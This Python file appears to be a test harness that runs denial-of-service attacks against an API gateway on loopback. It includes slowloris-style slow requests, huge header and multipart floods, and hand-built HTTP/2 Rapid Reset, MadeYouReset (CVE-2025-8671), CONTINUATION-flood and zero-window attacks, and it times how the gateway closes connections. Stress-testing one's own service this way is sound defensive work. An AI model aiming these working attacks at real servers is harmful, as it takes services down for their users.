"""Attacks that no Debian package makes, each for some seconds against a gateway on loopback. Used by attacks.py.

usage: attackers.py NAME PORT SECONDS KEY     (prints one line of JSON: what was sent, and when connections were closed)

Frames of HTTP/2 are written by hand (RFC 9113 §4.1), because no library sends such sequences.
"""

import asyncio
import json
import os
import socket
import struct
import sys
import time

BOUNDARY = "attack"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """Returns a header field that is neither indexed nor compressed; name and value below 127 bytes (RFC 7541 §6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_head(port, key, path=b"/v1/models"):
    # :method GET and :scheme http are in the static table.
    return (b"\x82\x86" + literal(b":path", path) + literal(b":authority", b"127.0.0.1:%d" % port)
            + literal(b"authorization", b"Bearer " + key.encode()))


class Attack:
    def __init__(self, port, seconds, key):
        self.port, self.key = port, key
        self.until = time.monotonic() + seconds
        self.sent, self.connections, self.lives = 0, 0, []
        # When each connection began to attack.
        self.began = {}

    def goes_on(self):
        return time.monotonic() < self.until

    async def connect(self, receive_buffer=None):
        """Returns a connection, or None when it is not accepted."""
        sock = socket.socket()
        sock.setblocking(False)
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", self.port))
        except OSError:
            sock.close()
            return None
        self.connections += 1
        return sock

    async def life(self, play, receive_buffer=None):
        """Attacks on one connection after the other: when one is closed, opens the next."""
        while self.goes_on():
            sock = await self.connect(receive_buffer)
            if sock is None:
                await asyncio.sleep(0.05)
                continue
            self.began[sock] = time.monotonic()
            try:
                await asyncio.wait_for(play(sock), max(0.1, self.until - time.monotonic()))
                self.lives.append(time.monotonic() - self.began[sock])
            except TimeoutError:
                # The attack is over; this exception is an OSError too, but the gateway closed nothing.
                pass
            except (OSError, EOFError):
                self.lives.append(time.monotonic() - self.began[sock])
            finally:
                del self.began[sock]
                sock.close()

    async def send(self, sock, data):
        await asyncio.get_running_loop().sock_sendall(sock, data)
        self.sent += len(data)

    async def read_all(self, sock):
        """Reads until the gateway closes the connection."""
        while await asyncio.get_running_loop().sock_recv(sock, 65536):
            pass
        raise EOFError

    async def until_cut(self, sock, *plays):
        """Plays until the gateway closes the connection, whether reading or writing notices first."""
        tasks = [asyncio.ensure_future(play) for play in (self.read_all(sock), *plays)]
        try:
            done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
            for task in done:
                task.result()
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

    # ---- HTTP/1.1

    async def drip(self, sock, head, every):
        await self.send(sock, head)

        async def dripping():
            while True:
                await asyncio.sleep(every)
                await self.send(sock, b"x")
        await self.until_cut(sock, dripping())

    async def slow_headers(self, sock):
        await self.drip(sock, b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", 0.5)

    async def slow_body(self, sock):
        await self.drip(sock, (f"POST /v1/images/edits HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self.key}\r\n"
                               f"Content-Length: 1000000\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n\r\n"
                               f"--{BOUNDARY}\r\n").encode(), 0.5)

    async def slow_read(self, sock):
        ask = f"GET /v1/models HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self.key}\r\n\r\n".encode() * 10
        # Nothing is read here, so the gateway can write no more, and then reads no more. The time counts from the last
        # bytes that could be sent.
        while True:
            await self.send(sock, ask)
            self.began[sock] = time.monotonic()

    async def gigabyte_of_headers(self, sock):
        await self.send(sock, b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n")
        line = b"X-Big: " + b"a" * 8000 + b"\r\n"

        async def sending():
            for _ in range(1_000_000_000 // len(line)):
                await self.send(sock, line)
        await self.until_cut(sock, sending())

    async def hold(self, sock):
        await self.send(sock, b"POST /v1/images/edits HTTP/1.1\r\nHost: local")
        await self.until_cut(sock)

    async def sixteen_parts(self, sock):
        picture = b"\x89PNG\r\n\x1a\n" + os.urandom(1 << 20)
        parts = b"".join(b"--" + BOUNDARY.encode() + b'\r\nContent-Disposition: form-data; name="image[]"; filename="a.png"\r\n\r\n'
                         + picture + b"\r\n" for _ in range(16))
        # The model of the last part is refused, so that nothing is bought.
        parts += (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="model"\r\n\r\nno-such-model\r\n--{BOUNDARY}--\r\n').encode()
        head = (f"POST /v1/images/edits HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self.key}\r\n"
                f"Content-Length: {len(parts)}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                "Connection: close\r\n\r\n").encode()
        await self.until_cut(sock, self.send(sock, head + parts), asyncio.sleep(3600))

    # ---- HTTP/2

    async def broken_streams(self, sock, second):
        """Begins one stream after the other, each followed by a second frame."""
        await self.send(sock, PREFACE + frame(SETTINGS, 0, 0))
        head = request_head(self.port, self.key)

        async def beginning():
            stream = 1
            while True:
                batch = b""
                for _ in range(100):
                    batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, head) + second(stream)
                    stream += 2
                await self.send(sock, batch)
        await self.until_cut(sock, beginning())

    async def rapid_reset(self, sock):
        await self.broken_streams(sock, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))

    async def made_you_reset(self, sock):
        """Makes the gateway reset streams: DATA on a stream that was ended (CVE-2025-8671)."""
        await self.broken_streams(sock, lambda stream: frame(DATA, 0, stream, b"x"))

    async def continuation_flood(self, sock):
        await self.send(sock, PREFACE + frame(SETTINGS, 0, 0))
        await self.send(sock, frame(HEADERS, END_STREAM, 1, request_head(self.port, self.key)))
        piece = frame(CONTINUATION, 0, 1, literal(b"x-flood", b"a" * 100) * 100)

        async def flooding():
            while True:
                await self.send(sock, piece)
        await self.until_cut(sock, flooding())

    async def shut_window(self, sock):
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
        await self.send(sock, PREFACE + frame(SETTINGS, 0, 0, settings))
        head = request_head(self.port, self.key)
        await self.send(sock, b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, head) for stream in range(1, 41, 2)))
        await self.until_cut(sock)


# Name: attackers at once, and the receive buffer of each in bytes.
SHAPES = {
    "slow_headers": (400, None),
    "slow_body": (400, None),
    "slow_read": (8, 4096),
    "gigabyte_of_headers": (4, None),
    "hold": (100, None),
    "sixteen_parts": (8, None),
    "rapid_reset": (10, None),
    "made_you_reset": (10, None),
    "continuation_flood": (10, None),
    "shut_window": (100, None),
}


async def play(name, port, seconds, key):
    attack = Attack(port, seconds, key)
    count, receive_buffer = SHAPES[name]
    await asyncio.gather(*(attack.life(getattr(attack, name), receive_buffer) for _ in range(count)))
    lives = sorted(attack.lives)
    print(json.dumps({
        "connections": attack.connections, "bytes": attack.sent, "cut": len(lives),
        "median_s": lives[len(lives) // 2] if lives else None, "longest_s": lives[-1] if lives else None,
    }))


if __name__ == "__main__":
    asyncio.run(play(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]))
